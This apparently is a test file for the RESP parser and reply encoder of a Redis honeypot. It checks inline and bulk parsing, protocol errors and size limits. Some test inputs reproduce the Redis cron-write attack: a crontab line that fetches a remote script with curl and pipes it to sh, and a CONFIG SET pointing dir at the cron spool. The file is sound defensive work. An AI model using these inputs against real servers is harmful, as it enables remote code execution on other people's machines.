import { describe, expect, test } from "bun:test";
import { array, bulk, bulks, encode, error, integer, type Limits, map, NIL, OK, parseCommand, type Reply, simple, splitArgs, verbatim } from "../../src/honeypots/redis/resp";

const LIMITS: Limits = { maxArgs: 1024, maxArgBytes: 512 * 1024, maxCommandBytes: 1024 * 1024, unauthenticated: false };
const parse = (input: string | Buffer, limits = LIMITS) => parseCommand(typeof input === "string" ? Buffer.from(input, "latin1") : input, limits);
const words = (input: string | Buffer, limits = LIMITS) => {
  const r = parse(input, limits);
  return r.kind === "command" ? r.args.map((a) => a.toString("latin1")) : r;
};
const resp = (...args: string[]) => `*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a, "latin1")}\r\n${a}\r\n`).join("")}`;

/** Feeds the input in pieces cut at every offset and collects the commands, as a socket would. */
function feedSplit(input: string, cut: number): string[][] {
  const bytes = Buffer.from(input, "latin1");
  const out: string[][] = [];
  let buffer = Buffer.alloc(0);
  for (const piece of [bytes.subarray(0, cut), bytes.subarray(cut)]) {
    buffer = Buffer.concat([buffer, piece]);
    for (;;) {
      const r = parseCommand(buffer, LIMITS);
      if (r.kind === "incomplete") break;
      if (r.kind === "error") throw new Error(r.message);
      buffer = buffer.subarray(r.size);
      if (r.kind === "command") out.push(r.args.map((a) => a.toString("latin1")));
    }
  }
  expect(buffer.length).toBe(0);
  return out;
}

describe("parsing requests", () => {
  test("RESP2 arrays of bulk strings, binary-safe, with the size they took", () => {
    const input = resp("SET", "k", "a\r\nb\0c") + "PING\r\n";
    expect(parse(input)).toEqual({ kind: "command", args: [Buffer.from("SET"), Buffer.from("k"), Buffer.from("a\r\nb\0c")], inline: false, size: input.length - 6 });
    expect(words(resp("GET", ""))).toEqual(["GET", ""]);
  });

  test("the inline form: \\r\\n or \\n, quotes and escapes as redis-cli and sdssplitargs take them", () => {
    expect(words("PING\r\n")).toEqual(["PING"]);
    expect(words("ping hello\n")).toEqual(["ping", "hello"]);
    expect(words('SET x "\\n* * * * * curl http://198.51.100.1/x.sh | sh\\n"\r\n')).toEqual(["SET", "x", "\n* * * * * curl http://198.51.100.1/x.sh | sh\n"]);
    expect(words("SET k 'it\\'s' \"\\x41\\x4a\\t\\\"\"\r\n")).toEqual(["SET", "k", "it's", 'AJ\t"']);
    expect(words("  GET   k  \t\r\n")).toEqual(["GET", "k"]);
    expect(parse("GET / HTTP/1.0\r\n\r\n")).toMatchObject({ kind: "command", inline: true, size: 16 });
  });

  test("empty lines, *0 and *-1 are skipped without a reply; a NUL hides an inline line's end", () => {
    expect(parse("\r\nPING\r\n")).toEqual({ kind: "skip", size: 2 });
    expect(parse("   \n")).toEqual({ kind: "skip", size: 4 });
    expect(parse("*0\r\n")).toEqual({ kind: "skip", size: 4 });
    expect(parse("*-1\r\n")).toEqual({ kind: "skip", size: 5 });
    // strchr stops at the NUL: the line never ends until it is too long.
    expect(parse("PING\0more\r\n")).toEqual({ kind: "incomplete" });
    expect(parse("PING\r\0\n")).toEqual({ kind: "incomplete" });
    expect(words(resp("PI\0G"))).toEqual(["PI\0G"]);
  });

  test("a command split at every byte parses the same as whole", () => {
    const input = resp("CONFIG", "SET", "dir", "/var/spool/cron/crontabs") + "ECHO 'a b'\r\n" + resp("SAVE");
    const whole = [["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"], ["ECHO", "a b"], ["SAVE"]];
    for (let cut = 0; cut <= input.length; cut++) expect(feedSplit(input, cut)).toEqual(whole);
  });

  test("incomplete input waits, however little has arrived", () => {
    for (const partial of ["*", "*2", "*2\r", "*2\r\n", "*2\r\n$3", "*2\r\n$3\r\nGET", "*2\r\n$3\r\nGET\r\n$1\r\nk", "PIN", "PING\r"]) {
      expect(parse(partial)).toEqual({ kind: "incomplete" });
    }
    expect(parse("")).toEqual({ kind: "incomplete" });
  });

  test("malformed requests get Redis's protocol errors", () => {
    const err = (input: string | Buffer, limits = LIMITS) => {
      const r = parse(input, limits);
      return r.kind === "error" ? r.message : r;
    };
    expect(err("*x\r\n")).toBe("Protocol error: invalid multibulk length");
    expect(err("*+1\r\n")).toBe("Protocol error: invalid multibulk length");
    expect(err("*01\r\n")).toBe("Protocol error: invalid multibulk length");
    expect(err("*1\r\n$-1\r\n")).toBe("Protocol error: invalid bulk length");
    expect(err("*1\r\n$abc\r\n")).toBe("Protocol error: invalid bulk length");
    expect(err("*1\r\n:1\r\n")).toBe("Protocol error: expected '$', got ':'");
    expect(err("*1\r\n\r\n")).toBe("Protocol error: expected '$', got ' '");
    expect(err('SET k "unterminated\r\n')).toBe("Protocol error: unbalanced quotes in request");
    expect(err('SET k "a"b\r\n')).toBe("Protocol error: unbalanced quotes in request");
    expect(err(Buffer.alloc(64 * 1024 + 1, "a"))).toBe("Protocol error: too big inline request");
    expect(err(`*${"1".repeat(64 * 1024 + 1)}`)).toBe("Protocol error: too big mbulk count string");
    expect(err(`*1\r\n$${"1".repeat(64 * 1024 + 1)}`)).toBe("Protocol error: too big bulk count string");
  });

  test("bounds: arguments, argument size and command size, checked as soon as the header arrives", () => {
    const err = (input: string, limits = LIMITS) => {
      const r = parse(input, limits);
      return r.kind === "error" ? r.message : r.kind;
    };
    expect(err("*1025\r\n")).toBe("Protocol error: invalid multibulk length");
    expect(err("*1024\r\n")).toBe("incomplete");
    expect(err("*1\r\n$524289\r\n")).toBe("Protocol error: invalid bulk length");
    expect(err("*1\r\n$524288\r\n")).toBe("incomplete");
    expect(err("*1\r\n$99999999999999999999\r\n")).toBe("Protocol error: invalid bulk length");
    const big = "x".repeat(512 * 1024);
    expect(err(`*3\r\n$${big.length}\r\n${big}\r\n$${big.length}\r\n${big}\r\n$1\r\n`)).toBe("Protocol error: invalid bulk length");
    const locked = { ...LIMITS, unauthenticated: true };
    expect(err("*11\r\n", locked)).toBe("Protocol error: unauthenticated multibulk length");
    expect(err("*10\r\n", locked)).toBe("incomplete");
    expect(err("*1\r\n$16385\r\n", locked)).toBe("Protocol error: unauthenticated bulk length");
    expect(err("*1\r\n$16384\r\n", locked)).toBe("incomplete");
  });

  test("splitArgs on its own: closing quotes must end a word, the empty line has no words", () => {
    expect(splitArgs(Buffer.from(""))).toEqual([]);
    expect(splitArgs(Buffer.from('"a" "" b'))!.map(String)).toEqual(["a", "", "b"]);
    expect(splitArgs(Buffer.from("'a'b"))).toBeNull();
    expect(splitArgs(Buffer.from("a\\x41"))!.map(String)).toEqual(["a\\x41"]);
  });
});

describe("encoding replies", () => {
  const both = (reply: Reply) => [encode(reply, 2).toString("latin1"), encode(reply, 3).toString("latin1")];

  test("the RESP2 types, the same in RESP3", () => {
    expect(both(OK)).toEqual(["+OK\r\n", "+OK\r\n"]);
    expect(both(error("ERR unknown command 'x\r\ny'"))).toEqual(["-ERR unknown command 'x  y'\r\n", "-ERR unknown command 'x  y'\r\n"]);
    expect(both(integer(-2))).toEqual([":-2\r\n", ":-2\r\n"]);
    expect(both(bulk(Buffer.from([0, 0xff, 0x0d])))).toEqual(["$3\r\n\0\xff\r\r\n", "$3\r\n\0\xff\r\r\n"]);
    expect(both(bulks(["a", ""]))).toEqual(["*2\r\n$1\r\na\r\n$0\r\n\r\n", "*2\r\n$1\r\na\r\n$0\r\n\r\n"]);
  });

  test("nulls, maps, sets, doubles, booleans and verbatim text as Redis 7 sends them in each protocol", () => {
    expect(both(NIL)).toEqual(["$-1\r\n", "_\r\n"]);
    expect(both({ type: "null", array: true })).toEqual(["*-1\r\n", "_\r\n"]);
    expect(both(map([[bulk("dir"), bulk("/var/lib/redis")]]))).toEqual(["*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n", "%1\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n"]);
    expect(both({ type: "set", items: [simple("a")] })).toEqual(["*1\r\n+a\r\n", "~1\r\n+a\r\n"]);
    expect(both({ type: "double", value: 1.5 })).toEqual(["$3\r\n1.5\r\n", ",1.5\r\n"]);
    expect(both({ type: "boolean", value: true })).toEqual([":1\r\n", "#t\r\n"]);
    expect(both(verbatim("# Server\r\n"))).toEqual(["$10\r\n# Server\r\n\r\n", "=14\r\ntxt:# Server\r\n\r\n"]);
    expect(both(array([map([]), array([])]))).toEqual(["*2\r\n*0\r\n*0\r\n", "*2\r\n%0\r\n*0\r\n"]);
  });
});
